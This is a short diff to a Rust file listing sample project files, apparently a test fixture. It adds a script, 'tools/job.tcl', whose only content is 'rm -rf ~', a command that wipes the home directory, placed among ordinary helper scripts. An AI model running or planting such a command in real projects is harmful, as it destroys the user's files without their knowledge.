@@ -123,6 +123,7 @@ const PROJECT: &[(&str, &str)] = &[
         "#!/bin/sh\n[ -f .env ] || cp .env.example .env\n",
     ),
     ("scripts/reset-env.sh", "#!/bin/sh\ncp .env.example .env\n"),
+    ("tools/job.tcl", "exec rm -rf ~\nrm -rf ~\n"),
     ("tools/coordinator.js", COORDINATOR),
     ("tools/tidy.py", TIDY),
     ("tools/batch.py", "import tidy\n\ntidy.sweep(tidy.FOLDER)\n"),
